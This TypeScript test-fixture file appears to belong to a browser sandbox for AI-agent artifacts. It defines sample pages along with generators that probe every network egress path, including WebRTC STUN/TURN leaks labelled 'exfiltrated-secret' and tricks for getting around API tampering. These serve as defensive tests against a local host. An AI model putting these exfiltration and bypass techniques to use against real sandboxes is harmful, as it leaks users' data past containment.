/** A canvas game: a square that moves 20 px per arrow key; score and state exposed. */
export const GAME_HTML = `<!doctype html>
<html><head><title>Square game</title>
<style>body{margin:0;background:#222} #score{color:#fff}</style></head>
<body><canvas id="game" width="200" height="120"></canvas><div id="score">0</div>
<script>
  const canvas = document.getElementById("game");
  const context = canvas.getContext("2d");
  window.game = { x: 10, y: 50, moves: 0 };
  function draw() {
    context.fillStyle = "#000"; context.fillRect(0, 0, 200, 120);
    context.fillStyle = "#0f0"; context.fillRect(game.x, game.y, 20, 20);
  }
  addEventListener("keydown", (event) => {
    if (event.key === "ArrowRight") game.x += 20;
    if (event.key === "ArrowLeft") game.x -= 20;
    game.moves += 1;
    document.getElementById("score").textContent = String(game.moves);
    console.log("moved to", game.x);
    draw();
  });
  draw();
  console.log("game ready");
</script></body></html>`;

/** A form page for DOM reads and typing. */
export const FORM_HTML = `<!doctype html><html><head><title>Form</title></head><body>
<h1 class="title">Hello <b>world</b></h1>
<ul><li>one</li><li>two</li><li>three</li></ul>
<input id="name" value="start" data-kind="text">
<button id="go" onclick="document.getElementById('out').textContent = 'clicked ' + document.getElementById('name').value">Go</button>
<p id="out">not yet</p>
<p id="long">${"x".repeat(5000)}</p>
<script>console.warn("careful"); console.warn("careful"); console.warn("careful"); console.error("bad", {a: 1});</script>
</body></html>`;

/** Every egress path the sandbox must stop, aimed at `target` (e.g. http://127.0.0.1:1234). */
export function egressHtml(target: string, options: { navigations?: boolean } = {}): string {
  const navigations = options.navigations !== false;
  return `<!doctype html><html><head><title>Egress</title>
<link rel="stylesheet" href="${target}/style.css">
<link rel="prefetch" href="${target}/prefetch">
<style>@font-face { font-family: x; src: url(${target}/font.woff); } body { font-family: x; background: url(${target}/background.png); }</style>
<script src="${target}/script.js"></script>
</head><body>
<img src="${target}/image.png">
<iframe src="${target}/frame.html"></iframe>
<form id="form" action="${target}/form" method="post"><input name="a" value="1"></form>
<a id="link" href="${target}/link">link</a>
<script>
  window.attempts = [];
  const note = (what, how) => window.attempts.push(what + ": " + how);
  fetch("${target}/fetch").then(() => note("fetch", "answered"), () => note("fetch", "failed"));
  try { const xhr = new XMLHttpRequest(); xhr.open("GET", "${target}/xhr"); xhr.onerror = () => note("xhr", "failed"); xhr.send(); } catch (e) { note("xhr", "threw"); }
  try { const socket = new WebSocket("${target.replace("http", "ws")}/socket"); socket.onerror = () => note("websocket", "failed"); } catch (e) { note("websocket", "threw"); }
  try { const source = new EventSource("${target}/events"); source.onerror = () => note("eventsource", "failed"); } catch (e) { note("eventsource", "threw"); }
  try { navigator.sendBeacon("${target}/beacon", "x"); } catch (e) { note("beacon", "threw"); }
  try { new Worker("${target}/worker.js"); } catch (e) { note("worker", "threw"); }
  try { navigator.serviceWorker && navigator.serviceWorker.register("${target}/sw.js").catch(() => note("serviceworker", "failed")); } catch (e) { note("serviceworker", "threw"); }
  try { window.open("${target}/popup"); } catch (e) { note("open", "threw"); }
  try { document.getElementById("form").submit(); } catch (e) { note("form", "threw"); }
  try { document.getElementById("link").click(); } catch (e) { note("link", "threw"); }
  if (${navigations}) { const meta = document.createElement("meta"); meta.httpEquiv = "refresh"; meta.content = "0;url=${target}/refresh"; document.head.appendChild(meta); }
  const image = new Image(); image.src = "${target}/dynamic.png";
  if (${navigations}) setTimeout(() => { try { location.href = "${target}/location"; } catch (e) { note("location", "threw"); } }, 50);
  fetch("data:text/plain,inline").then((r) => r.text()).then((t) => note("data-fetch", t));
  fetch(URL.createObjectURL(new Blob(["blobbed"]))).then((r) => r.text()).then((t) => note("blob-fetch", t));
  try { localStorage.setItem("k", "v"); note("localStorage", localStorage.getItem("k")); } catch (e) { note("localStorage", "threw " + e.message); }
  try { note("cookie", document.cookie === "" ? "empty" : document.cookie); } catch (e) { note("cookie", "threw"); }
</script></body></html>`;
}

/** A WebGL canvas that clears to red once (no redraw): shots must still see red. */
export const WEBGL_HTML = `<!doctype html><html><body><canvas id="gl" width="64" height="64"></canvas><script>
const gl = document.getElementById("gl").getContext("webgl");
gl.clearColor(1, 0, 0, 1); gl.clear(gl.COLOR_BUFFER_BIT);
</script></body></html>`;

/** Loops forever once a key is pressed. */
export const LOOP_ON_KEY_HTML = `<!doctype html><html><body><p id="p">idle</p><script>
addEventListener("keydown", () => { document.getElementById("p").textContent = "looping"; for (;;) {} });
</script></body></html>`;

/** Loops forever while loading. */
export const LOOP_AT_LOAD_HTML = `<!doctype html><html><head><title>Stuck</title></head><body><script>console.log("before"); for (;;) {}</script><p id="after">after</p></body></html>`;

/** A page without a canvas. */
export const PLAIN_HTML = `<!doctype html><html><head><title>Plain</title></head><body style="background:#00f"><h1>Plain</h1><script>throw new Error("boom at load")</script></body></html>`;

/**
 * An artifact that aims WebRTC at a STUN and a TURN server on 127.0.0.1:`port` (data in the TURN
 * username) from every place it can: `RTCPeerConnection` after trying to replace it, its webkit
 * name, `RTCRtpSender`, a fresh `about:blank` frame's constructor and (unless `childFrame` is
 * false) the script of a `srcdoc` child frame. `window.webrtc` lists `"<where>: <outcome>"`,
 * the outcome being `gathering` (ICE started) or the error's name.
 */
export function webrtcHtml(port: number, options: { childFrame?: boolean } = {}): string {
  const servers = JSON.stringify({
    iceServers: [
      { urls: `stun:127.0.0.1:${port}` },
      {
        urls: `turn:127.0.0.1:${port}?transport=udp`,
        username: "exfiltrated-secret",
        credential: "x",
      },
    ],
  });
  // A peer connection with a data channel and an offer starts ICE gathering towards the servers.
  const attempt = `async function attempt(Connection) {
    const connection = new Connection(${servers});
    connection.createDataChannel("x");
    await connection.setLocalDescription(await connection.createOffer());
    return "gathering";
  }
  function outcome(run) {
    return new Promise((resolve) => resolve(run())).then((value) => value, (error) => error.name);
  }`;
  const child = `<script>${attempt}
  outcome(() => attempt(RTCPeerConnection)).then((result) => parent.postMessage("child frame: " + result, "*"));
</script>`;
  return `<!doctype html><html><head><title>WebRTC</title></head><body><script>
  ${attempt}
  window.webrtc = [];
  const note = (where) => (result) => window.webrtc.push(where + ": " + result);
  addEventListener("message", (event) => {
    if (String(event.data).startsWith("child frame: ")) window.webrtc.push(String(event.data));
  });
  outcome(() => attempt(window.RTCPeerConnection)).then(note("window"));
  const original = window.RTCPeerConnection;
  delete window.RTCPeerConnection;
  window.RTCPeerConnection = function Replacement() {};
  try { Object.defineProperty(window, "RTCPeerConnection", { value: function Replacement() {} }); } catch {}
  note("tampering")(window.RTCPeerConnection === original ? "kept" : "replaced");
  outcome(() => attempt(window.webkitRTCPeerConnection)).then(note("webkit"));
  outcome(() => RTCRtpSender.getCapabilities("audio") && "capabilities").then(note("sender"));
  const blank = document.createElement("iframe");
  document.body.appendChild(blank);
  outcome(() => attempt(blank.contentWindow.RTCPeerConnection)).then(note("blank frame"));
</script>
${options.childFrame === false ? "" : `<iframe srcdoc="${child.replace(/&/g, "&amp;").replace(/"/g, "&quot;")}"></iframe>`}
</body></html>`;
}

/** A 1×1 red PNG. */
export const ONE_PIXEL_PNG = Uint8Array.from(
  atob(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==",
  ),
  (character) => character.charCodeAt(0),
);

/**
 * A small web app as agents write it (issue 31): a document with a stylesheet (and its `url()`
 * image), a classic script, a module script importing a module and fetching JSON, an image; a
 * secret beside it; and a page with an error on line 5 of 9 and a script with one on line 2.
 */
export const FOLDER_APP: Readonly<Record<string, string | Uint8Array>> = {
  "app/index.html": `<!doctype html>
<html><head><title>Folder app</title>
<link rel="stylesheet" href="style.css">
<script src="classic.js"></script>
<script type="module" src="app.js"></script>
</head><body><p id="out">loading</p><div id="box"></div><img id="logo" src="logo.png">
<button id="go">Go</button>
</body></html>`,
  "app/style.css":
    "#out { color: rgb(0, 128, 0); }\n#box { width: 10px; height: 10px; background: url(logo.png); }\n",
  "app/classic.js": "window.classicLoaded = true;\n",
  "app/lib/format.js": "export const format = (items) => items.join(' + ');\n",
  "app/app.js": [
    'import { format } from "./lib/format.js";',
    "const response = await fetch('data.json');",
    "const data = await response.json();",
    "document.querySelector('#out').textContent = format(data.items);",
    "document.querySelector('#go').addEventListener('click', () => { document.querySelector('#out').textContent = 'clicked'; });",
    "window.appReady = true;",
  ].join("\n"),
  "app/data.json": JSON.stringify({ items: ["alpha", "beta"] }),
  "app/logo.png": ONE_PIXEL_PNG,
  "app/.env": "TOKEN=hunter2\n",
  "app/broken.js": "const fine = 1;\nnotDefinedAnywhere();\n",
  "app/errors.html": `<!doctype html>
<html><head><title>Errors</title></head>
<body>
<script>
  missingFunction();
</script>
<script src="broken.js"></script>
</body>
</html>`,
};

/** Waits for the folder app's module to finish, then reports what loaded (an eval's code). */
export const FOLDER_APP_STATE = `(async () => {
  for (let tries = 0; tries < 100 && !window.appReady; tries++) await new Promise((done) => setTimeout(done, 20));
  return {
    out: document.querySelector('#out').textContent,
    classic: window.classicLoaded === true,
    color: getComputedStyle(document.querySelector('#out')).color,
    background: getComputedStyle(document.querySelector('#box')).backgroundImage.slice(0, 60),
    logo: document.querySelector('#logo').naturalWidth,
  };
})()`;
